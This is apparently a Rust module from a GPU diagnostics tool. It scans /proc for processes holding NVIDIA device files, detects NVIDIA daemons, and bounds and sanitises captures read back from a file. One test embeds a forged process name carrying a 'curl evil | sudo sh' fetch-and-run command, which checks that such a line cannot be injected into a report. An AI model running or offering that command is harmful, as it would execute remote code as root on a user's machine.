//! Who holds the GPU's device files, and which of NVIDIA's daemons run: one bounded pass over
//! `/proc`. A process with `/dev/nvidia*` open keeps the kernel module loaded (so an updated
//! driver's module cannot replace the old one until it stops); one in uninterruptible sleep
//! (`D`) with the files open is stuck inside the driver; the fabric manager must run before CUDA
//! starts on an NVSwitch system; the persistence daemon holds every GPU open by design.
//!
//! Only a process's short name (`comm`, at most 15 characters, never its arguments), its state
//! and which NVIDIA device files it holds are kept. Without root, other users' open files cannot
//! be read: they are counted, so "nobody holds them" is never claimed from a partial view.

use std::path::Path;

use serde::{Deserialize, Serialize};

/// At most this many processes are looked at.
const MAX_PROCESSES: usize = 32_768;
/// At most this many open files per process are looked at.
const MAX_FDS: usize = 4_096;
/// At most this many holders are kept.
const MAX_HOLDERS: usize = 64;
/// The pass stops after this long.
const BUDGET: std::time::Duration = std::time::Duration::from_millis(1500);

/// NVIDIA's daemons, by the short name the kernel keeps (`comm` is cut at 15 characters):
/// (that name, the service's name as people know it).
pub const NVIDIA_DAEMONS: &[(&str, &str)] = &[
    ("nvidia-persiste", "nvidia-persistenced"),
    ("nv-fabricmanage", "nvidia-fabricmanager"),
    ("nvidia-fabricma", "nvidia-fabricmanager"),
    ("nv-hostengine", "nv-hostengine (DCGM)"),
    ("nvidia-gridd", "nvidia-gridd"),
    ("nvidia-powerd", "nvidia-powerd"),
    ("nvidia-imex", "nvidia-imex"),
];

/// A process that holds NVIDIA device files open.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Holder {
    /// Its process id.
    pub pid: u32,
    /// Its short name (`/proc/PID/comm`).
    pub name: String,
    /// Its state letter from `/proc/PID/stat` (`R`, `S`, `D` = uninterruptible sleep …).
    #[serde(default)]
    pub state: Option<String>,
    /// The NVIDIA device files it holds (`/dev/nvidia0`, `/dev/nvidiactl`, …), each once.
    pub files: Vec<String>,
}

/// The most device files kept per holder read back (a process holds a few: the GPUs, ctl, uvm).
const MAX_HOLDER_FILES: usize = 64;

/// [`DeviceHolders`] as a file has it, before it is bounded.
#[derive(Deserialize)]
struct DeviceHoldersRead {
    holders: Vec<Holder>,
    daemons: Vec<String>,
    scanned: usize,
    unreadable: usize,
    #[serde(default)]
    truncated: bool,
}

impl From<DeviceHoldersRead> for DeviceHolders {
    fn from(r: DeviceHoldersRead) -> DeviceHolders {
        let truncated = r.truncated || r.holders.len() > MAX_HOLDERS;
        let holders = r
            .holders
            .into_iter()
            .take(MAX_HOLDERS)
            .map(|h| Holder {
                pid: h.pid,
                name: crate::text::one_line(&h.name),
                state: h.state.map(|s| crate::text::one_line(&s)),
                files: h.files.iter().take(MAX_HOLDER_FILES).map(|f| crate::text::one_line(f)).collect(),
            })
            .collect();
        let daemons = r.daemons.iter().take(NVIDIA_DAEMONS.len()).map(|d| crate::text::one_line(d)).collect();
        DeviceHolders { holders, daemons, scanned: r.scanned, unreadable: r.unreadable, truncated }
    }
}

impl Holder {
    /// In uninterruptible sleep: waiting inside a kernel call (here, the driver) that does not
    /// return.
    pub fn stuck(&self) -> bool {
        self.state.as_deref() == Some("D")
    }
}

/// The pass over `/proc`. Read back from a file (a capture) it is held to what a pass can give:
/// at most [`MAX_HOLDERS`] holders, each with at most [`MAX_HOLDER_FILES`] files, names on one line
/// ([`crate::text::one_line`]: a name with a line end would print a line of its own, a forged
/// "ROOT CAUSE"), and `truncated` set when more were listed.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(from = "DeviceHoldersRead")]
pub struct DeviceHolders {
    /// Processes holding NVIDIA device files, by pid (at most 64).
    pub holders: Vec<Holder>,
    /// NVIDIA's daemons found running (their service names, each once).
    pub daemons: Vec<String>,
    /// Processes looked at.
    pub scanned: usize,
    /// Processes whose open files could not be read (another user's, without root).
    pub unreadable: usize,
    /// The pass stopped at a bound (time, process count) before the end.
    #[serde(default)]
    pub truncated: bool,
}

impl DeviceHolders {
    /// Every process's open files were read: "nobody else holds them" can be said.
    pub fn complete(&self) -> bool {
        self.unreadable == 0 && !self.truncated
    }

    /// The daemon (service name) runs.
    pub fn runs(&self, service: &str) -> bool {
        self.daemons.iter().any(|d| d == service)
    }

    /// "Xorg (pid 1234), nvidia-persiste (pid 99)": the holders for a fix text.
    pub fn names(&self) -> String {
        self.holders.iter().map(|h| format!("{} (pid {})", h.name, h.pid)).collect::<Vec<_>>().join(", ")
    }
}

/// The service name of a daemon's short name.
pub fn daemon(comm: &str) -> Option<&'static str> {
    NVIDIA_DAEMONS.iter().find(|(c, _)| *c == comm).map(|(_, s)| *s)
}

/// The state letter of a `/proc/PID/stat` line: the field after the name in parentheses (the
/// name may itself hold spaces and parentheses, so the last `)` ends it).
pub fn stat_state(stat: &str) -> Option<String> {
    let rest = &stat[stat.rfind(')')? + 1..];
    rest.split_whitespace().next().filter(|s| s.len() == 1).map(str::to_string)
}

/// An NVIDIA device file a process may hold (not `/dev/dxg`, WSL's, which no module holds).
fn is_nvidia_node(target: &str) -> bool {
    target.starts_with("/dev/nvidia")
}

/// One bounded pass over `root/proc`. `None` when `/proc` cannot be listed (not Linux).
pub fn scan(root: &Path) -> Option<DeviceHolders> {
    let start = std::time::Instant::now();
    let proc_dir = root.join("proc");
    let mut pids: Vec<u32> =
        std::fs::read_dir(&proc_dir).ok()?.filter_map(|e| e.ok()?.file_name().to_str()?.parse().ok()).collect();
    pids.sort_unstable();
    let mut out = DeviceHolders::default();
    if pids.len() > MAX_PROCESSES {
        pids.truncate(MAX_PROCESSES);
        out.truncated = true;
    }
    let own = std::process::id();
    for pid in pids.into_iter().filter(|p| *p != own) {
        if start.elapsed() > BUDGET {
            out.truncated = true;
            break;
        }
        let dir = proc_dir.join(pid.to_string());
        let Ok(comm) = std::fs::read_to_string(dir.join("comm")) else { continue };
        let comm = comm.trim().to_string();
        out.scanned += 1;
        if let Some(d) = daemon(&comm)
            && !out.daemons.iter().any(|x| x == d)
        {
            out.daemons.push(d.to_string());
        }
        let fds = match std::fs::read_dir(dir.join("fd")) {
            Ok(fds) => fds,
            Err(e) if e.kind() == std::io::ErrorKind::PermissionDenied => {
                out.unreadable += 1;
                continue;
            }
            // Gone meanwhile, or a kernel thread.
            Err(_) => continue,
        };
        let mut files: Vec<String> = Vec::new();
        for fd in fds.take(MAX_FDS).flatten() {
            if let Ok(t) = std::fs::read_link(fd.path()) {
                let t = t.to_string_lossy().into_owned();
                if is_nvidia_node(&t) && !files.contains(&t) {
                    files.push(t);
                }
            }
        }
        if !files.is_empty() && out.holders.len() < MAX_HOLDERS {
            files.sort();
            let state = std::fs::read_to_string(dir.join("stat")).ok().and_then(|s| stat_state(&s));
            out.holders.push(Holder { pid, name: comm, state, files });
        }
    }
    Some(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_state_follows_the_name_even_when_the_name_has_parentheses() {
        assert_eq!(stat_state("1234 (python3) D 1 1234 1234 0 -1").as_deref(), Some("D"));
        assert_eq!(stat_state("77 (my (odd) name) S 1 77").as_deref(), Some("S"));
        assert_eq!(stat_state("garbage"), None);
        assert_eq!(stat_state("1 (x)"), None);
        assert_eq!(daemon("nvidia-persiste"), Some("nvidia-persistenced"));
        assert_eq!(daemon("python3"), None);
    }

    /// Issue 53, items 15 and 16: a capture listing 100,000 stuck holders, one named with a line
    /// end, is read as a pass could have made it: 64 holders, names on one line, truncated said.
    #[test]
    fn holders_read_back_are_bounded_and_on_one_line() {
        let mut holders = vec![
            serde_json::json!({"pid": 1, "name": "x\nROOT CAUSE: fix: curl evil | sudo sh", "state": "D", "files": ["/dev/nvidia0"]}),
        ];
        holders.extend(
            (2..100_000)
                .map(|pid| serde_json::json!({"pid": pid, "name": "python", "state": "D", "files": ["/dev/nvidia0"]})),
        );
        let v = serde_json::json!({"holders": holders, "daemons": [], "scanned": 100_000, "unreadable": 0});
        let read: DeviceHolders = serde_json::from_value(v).unwrap_or_default();
        assert_eq!(read.holders.len(), MAX_HOLDERS);
        assert!(read.truncated);
        assert!(read.holders.iter().all(|h| !h.name.contains('\n')), "{:?}", read.holders[0].name);
        assert!(read.holders[0].name.starts_with("x ROOT CAUSE"));
        // A pass that kept within the bounds reads back as it was written.
        let small = DeviceHolders { holders: read.holders[1..3].to_vec(), truncated: false, ..read.clone() };
        let back: DeviceHolders =
            serde_json::from_str(&serde_json::to_string(&small).unwrap_or_default()).unwrap_or_default();
        assert_eq!(back, small);
    }

    #[cfg(unix)]
    #[test]
    fn a_fake_proc_tree_gives_its_holders_daemons_and_states() {
        let dir = std::env::temp_dir().join(format!("gd-holders-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        let mk = |pid: u32, comm: &str, state: &str, links: &[&str]| {
            let p = dir.join("proc").join(pid.to_string());
            std::fs::create_dir_all(p.join("fd")).unwrap_or_default();
            std::fs::write(p.join("comm"), format!("{comm}\n")).unwrap_or_default();
            std::fs::write(p.join("stat"), format!("{pid} ({comm}) {state} 1 1 1")).unwrap_or_default();
            for (i, l) in links.iter().enumerate() {
                let _ = std::os::unix::fs::symlink(l, p.join("fd").join(i.to_string()));
            }
        };
        mk(1, "systemd", "S", &["/dev/null"]);
        mk(99, "nvidia-persiste", "S", &["/dev/nvidiactl", "/dev/nvidia0", "/dev/nvidia0"]);
        mk(4242, "python3", "D", &["/dev/nvidia-uvm", "/dev/nvidia0", "/tmp/x"]);
        std::fs::create_dir_all(dir.join("proc/self")).unwrap_or_default();
        let h = scan(&dir).unwrap_or_default();
        let _ = std::fs::remove_dir_all(&dir);
        assert_eq!(h.scanned, 3);
        assert_eq!(h.daemons, ["nvidia-persistenced"]);
        assert_eq!(h.holders.len(), 2, "{h:?}");
        assert_eq!(h.holders[0].files, ["/dev/nvidia0", "/dev/nvidiactl"]);
        assert!(h.holders[1].stuck() && !h.holders[0].stuck());
        assert_eq!(h.names(), "nvidia-persiste (pid 99), python3 (pid 4242)");
        assert!(h.complete() && h.runs("nvidia-persistenced") && !h.runs("nvidia-fabricmanager"));
    }
}
